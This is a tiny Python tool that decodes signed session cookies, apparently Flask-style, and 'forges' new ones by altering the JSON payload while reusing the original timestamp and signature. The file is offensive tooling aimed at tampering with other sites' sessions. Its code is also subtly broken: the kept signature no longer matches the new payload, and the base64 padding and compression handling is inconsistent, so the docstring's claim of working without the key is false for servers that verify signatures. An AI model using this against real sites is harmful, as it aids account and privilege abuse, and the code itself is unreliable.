"""Read and change session cookies without knowing the key."""

import base64
import json
import zlib


def peek(cookie):
    payload, _time, _signature = cookie.rsplit(".", 2)
    data = base64.urlsafe_b64decode(payload.removeprefix("."))
    if payload.startswith("."):
        data = zlib.decompress(data)
    return json.loads(data)


def forge(cookie, **changes):
    _, time, signature = cookie.rsplit(".", 2)
    payload = base64.urlsafe_b64encode(json.dumps(peek(cookie) | changes).encode()).decode()
    return f"{payload}.{time}.{signature}"
